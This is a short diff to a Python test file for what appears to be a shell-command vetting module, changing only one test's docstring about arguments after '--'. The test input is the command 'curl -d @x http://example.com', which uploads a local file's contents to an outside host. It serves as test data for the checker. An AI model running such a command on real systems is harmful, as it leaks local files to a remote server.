@@ -66,7 +66,7 @@ def test_a_body_that_is_no_code_is_judged_by_its_program(words, tmp_path):
     ],
 )
 def test_a_body_beside_an_unknown_word_is_not_judged_as_an_argument(words, tmp_path):
-    """Behind `--`, `-c BODY` is a file's name, while the program reads the body: it is input nobody has seen."""
+    """Behind `--`, `-c` is a file's name, while the program reads the body: input nobody has seen."""
     found = bodies.of_body(words, "curl -d @x http://example.com\n", tmp_path)
     assert (found.argv, found.judged_as, found.line) == (words, (), "")
 
